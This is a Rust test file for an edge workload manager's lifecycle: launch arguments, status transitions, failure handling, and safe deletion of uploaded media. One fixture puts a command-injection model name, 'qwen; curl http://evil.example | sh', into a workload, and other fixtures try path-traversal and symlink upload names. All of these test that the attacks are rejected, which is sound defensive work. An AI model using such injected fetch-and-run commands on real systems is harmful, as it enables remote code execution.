// Workload lifecycle tests: store -> reconciler -> supervisor -> registry
// The registry is the in-memory one, so no worker process is started.

use edgeboard::core::reconciler::Reconciler;
use edgeboard::core::supervisor::{MemoryRegistry, RegistryCall, Supervisor, WorkerEnvironment};
use edgeboard::core::workload::{
    MediaSource, NewWorkload, Usecase, UsecaseMetadata, WorkloadStatus, WorkloadStore,
};
use std::fs;
use std::path::Path;
use std::sync::Arc;
use tempfile::TempDir;

struct Harness {
    temp: TempDir,
    media_dir: std::path::PathBuf,
    registry: Arc<MemoryRegistry>,
    store: WorkloadStore,
}

impl Harness {
    fn media_dir(&self) -> std::path::PathBuf {
        self.media_dir.clone()
    }
}

fn install_worker(workers: &Path, script: &str) {
    let venv_bin = workers.join(script).join(".venv").join(if cfg!(windows) {
        "Scripts"
    } else {
        "bin"
    });
    fs::create_dir_all(&venv_bin).unwrap();
    let python = if cfg!(windows) { "python.exe" } else { "python" };
    fs::write(venv_bin.join(python), "").unwrap();
    fs::write(workers.join(script).join("main.py"), "").unwrap();
}

fn harness() -> Harness {
    harness_with_media("media")
}

fn harness_with_media(media: &str) -> Harness {
    let temp = TempDir::new().unwrap();
    let workers = temp.path().join("workers");
    for script in ["text-generation", "dlstreamer", "instance-segmentation"] {
        install_worker(&workers, script);
    }
    let media_dir = temp.path().join(media);
    fs::create_dir_all(&media_dir).unwrap();
    fs::create_dir_all(temp.path().join("assets")).unwrap();

    let registry = Arc::new(MemoryRegistry::new());
    let supervisor = Arc::new(Supervisor::new(
        registry.clone(),
        WorkerEnvironment::new(&workers),
    ));
    let reconciler = Reconciler::new(supervisor, &media_dir, &temp.path().join("assets"));
    let store = WorkloadStore::new(&temp.path().join("workloads.json"), Arc::new(reconciler));

    Harness {
        temp,
        media_dir,
        registry,
        store,
    }
}

fn text_generation(devices: &[&str]) -> NewWorkload {
    NewWorkload {
        task: "generation".to_string(),
        usecase: Usecase::TextGeneration,
        model: "qwen2.5-1.5b".to_string(),
        devices: devices.iter().map(|d| d.to_string()).collect(),
        source: None,
        port: 5001,
        metadata: UsecaseMetadata::None,
    }
}

fn launches(registry: &MemoryRegistry) -> Vec<Vec<String>> {
    registry
        .calls()
        .into_iter()
        .filter_map(|call| match call {
            RegistryCall::Launch { args, .. } => Some(args),
            _ => None,
        })
        .collect()
}

#[tokio::test]
async fn test_create_launches_with_auto_device_list() {
    let h = harness();
    let workload = h
        .store
        .create(text_generation(&["GPU.0", "CPU"]))
        .await
        .unwrap();

    assert_eq!(workload.status, WorkloadStatus::Prepare);
    let launched = launches(&h.registry);
    assert_eq!(launched.len(), 1);
    assert_eq!(
        launched[0],
        vec![
            "--device",
            "AUTO:GPU.0,CPU",
            "--model",
            "qwen2.5-1.5b",
            "--port",
            "5001",
            "--id",
            &workload.id.to_string()
        ]
    );
}

#[tokio::test]
async fn test_single_device_has_no_auto_prefix() {
    let h = harness();
    h.store.create(text_generation(&["NPU"])).await.unwrap();

    let launched = launches(&h.registry);
    assert_eq!(&launched[0][..2], &["--device", "NPU"]);
}

#[tokio::test]
async fn test_deactivate_stops_once_and_keeps_registration() {
    let h = harness();
    let workload = h.store.create(text_generation(&["CPU"])).await.unwrap();
    h.store
        .update_status(workload.id, WorkloadStatus::Active)
        .await
        .unwrap();

    let updated = h
        .store
        .update_status(workload.id, WorkloadStatus::Inactive)
        .await
        .unwrap();
    assert_eq!(updated.status, WorkloadStatus::Inactive);

    assert_eq!(
        h.registry
            .count(|c| matches!(c, RegistryCall::Terminate { .. })),
        1
    );
    assert_eq!(
        h.registry.count(|c| matches!(c, RegistryCall::Forget { .. })),
        0
    );
}

#[tokio::test]
async fn test_reactivate_resumes_registered_worker() {
    let h = harness();
    let workload = h.store.create(text_generation(&["CPU"])).await.unwrap();
    h.store
        .update_status(workload.id, WorkloadStatus::Active)
        .await
        .unwrap();
    h.store
        .update_status(workload.id, WorkloadStatus::Inactive)
        .await
        .unwrap();

    let resumed = h
        .store
        .update_status(workload.id, WorkloadStatus::Active)
        .await
        .unwrap();

    assert_eq!(resumed.status, WorkloadStatus::Active);
    assert_eq!(
        h.registry
            .count(|c| matches!(c, RegistryCall::Relaunch { .. })),
        1
    );
    assert_eq!(launches(&h.registry).len(), 1);
}

#[tokio::test]
async fn test_launch_failure_marks_failed() {
    let h = harness();
    h.registry.fail_launches(true);

    let workload = h.store.create(text_generation(&["CPU"])).await.unwrap();
    assert_eq!(workload.status, WorkloadStatus::Failed);
    assert_eq!(
        h.store.get(workload.id).unwrap().status,
        WorkloadStatus::Failed
    );
}

#[tokio::test]
async fn test_missing_worker_environment_marks_failed() {
    let h = harness();
    let mut new = text_generation(&["CPU"]);
    new.usecase = Usecase::TextToSpeech;

    let workload = h.store.create(new).await.unwrap();
    assert_eq!(workload.status, WorkloadStatus::Failed);
    assert!(h.registry.calls().is_empty());
}

#[tokio::test]
async fn test_injected_model_name_marks_failed() {
    let h = harness();
    let mut new = text_generation(&["CPU"]);
    new.model = "qwen; curl http://evil.example | sh".to_string();

    let workload = h.store.create(new).await.unwrap();
    assert_eq!(workload.status, WorkloadStatus::Failed);
    assert!(h.registry.calls().is_empty());
}

fn streaming(usecase: Usecase, upload: &str, num_streams: u32) -> NewWorkload {
    NewWorkload {
        task: "vision".to_string(),
        usecase,
        model: "yolo11n".to_string(),
        devices: vec!["GPU.0".to_string()],
        source: Some(MediaSource::Upload {
            name: upload.to_string(),
        }),
        port: 5997,
        metadata: UsecaseMetadata::Streaming { num_streams },
    }
}

#[tokio::test]
async fn test_streaming_workload_uses_uploaded_input() {
    let h = harness();
    fs::write(h.media_dir().join("people.mp4"), b"video").unwrap();

    h.store
        .create(streaming(Usecase::InstanceSegmentation, "people.mp4", 2))
        .await
        .unwrap();

    let args = &launches(&h.registry)[0];
    let input_at = args.iter().position(|a| a == "--input").unwrap();
    assert!(args[input_at + 1].ends_with("people.mp4"));
    let tcp_at = args.iter().position(|a| a == "--tcp_port").unwrap();
    assert_eq!(args[tcp_at + 1], "6997");
    assert!(args.ends_with(&["--number_of_streams".to_string(), "2".to_string()]));
}

#[tokio::test]
async fn test_object_detection_gets_no_stream_count() {
    let h = harness();
    fs::write(h.media_dir().join("people.mp4"), b"video").unwrap();

    let workload = h
        .store
        .create(streaming(Usecase::ObjectDetection, "people.mp4", 2))
        .await
        .unwrap();

    assert_eq!(workload.status, WorkloadStatus::Prepare);
    let args = &launches(&h.registry)[0];
    assert!(!args.iter().any(|a| a == "--number_of_streams"));
    assert_eq!(args[args.len() - 2], "--input");
    assert!(args[args.len() - 1].ends_with("people.mp4"));
}

#[tokio::test]
async fn test_media_dir_with_space_launches() {
    let h = harness_with_media("Application Support/media");
    fs::write(h.media_dir().join("clip.mp4"), b"video").unwrap();

    let workload = h
        .store
        .create(streaming(Usecase::InstanceSegmentation, "clip.mp4", 1))
        .await
        .unwrap();

    assert_eq!(workload.status, WorkloadStatus::Prepare);
    let args = &launches(&h.registry)[0];
    let input_at = args.iter().position(|a| a == "--input").unwrap();
    assert!(args[input_at + 1].contains("Application Support"));
}

#[tokio::test]
async fn test_delete_removes_owned_upload() {
    let h = harness();
    let upload = h.media_dir().join("clip.mp4");
    fs::write(&upload, b"video").unwrap();

    let mut new = text_generation(&["CPU"]);
    new.usecase = Usecase::InstanceSegmentation;
    new.source = Some(MediaSource::Upload {
        name: "clip.mp4".to_string(),
    });
    let workload = h.store.create(new).await.unwrap();

    h.store.delete(workload.id).await.unwrap();
    assert!(!upload.exists());
    assert_eq!(
        h.registry.calls().last(),
        Some(&RegistryCall::Forget {
            id: workload.id.to_string()
        })
    );
}

#[tokio::test]
async fn test_delete_with_traversal_name_keeps_outside_file() {
    let h = harness();
    let outside = h.temp.path().join("secret.mp4");
    fs::write(&outside, b"keep me").unwrap();

    let mut new = text_generation(&["CPU"]);
    new.source = Some(MediaSource::Upload {
        name: "../secret.mp4".to_string(),
    });
    let workload = h.store.create(new).await.unwrap();

    h.store.delete(workload.id).await.unwrap();

    assert!(outside.exists());
    // Teardown still happens
    assert_eq!(
        h.registry.count(|c| matches!(c, RegistryCall::Forget { .. })),
        1
    );
}

#[cfg(unix)]
#[tokio::test]
async fn test_delete_through_symlink_keeps_target() {
    let h = harness();
    let outside = h.temp.path().join("outside.mp4");
    fs::write(&outside, b"keep me").unwrap();
    std::os::unix::fs::symlink(&outside, h.media_dir().join("link.mp4")).unwrap();

    let mut new = text_generation(&["CPU"]);
    new.source = Some(MediaSource::Upload {
        name: "link.mp4".to_string(),
    });
    let workload = h.store.create(new).await.unwrap();
    h.store.delete(workload.id).await.unwrap();

    assert!(outside.exists());
}
